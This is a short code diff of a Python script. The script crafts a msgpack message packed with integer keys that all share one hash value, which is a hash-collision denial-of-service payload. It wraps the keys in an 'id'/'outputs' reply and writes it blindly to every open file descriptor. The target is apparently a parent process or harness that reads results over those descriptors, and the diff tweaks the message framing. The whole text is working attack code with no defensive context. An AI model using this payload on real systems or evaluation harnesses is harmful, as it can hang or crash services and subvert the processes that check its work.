@@ -14,7 +14,7 @@ import msgpack
 MODULUS = 2**61 - 1  # whole numbers that differ by it have the same hash
 large = [msgpack.packb({None: ["int", hex(number * MODULUS)]}) for number in range(8, 100_000)]  # 8: beyond 64 bits
 collisions = b"\xdf" + struct.pack("!I", len(large)) + b"\0".join(large) + b"\0"
-answer = b"\x82" + msgpack.packb("id") + b"\1" + msgpack.packb("outputs") + collisions
+answer = b"\x91\x82" + msgpack.packb("id") + b"\1" + msgpack.packb("outputs") + collisions
 for handle in range(3, 256):
     try:
         os.write(handle, struct.pack("!I", len(answer)) + answer)
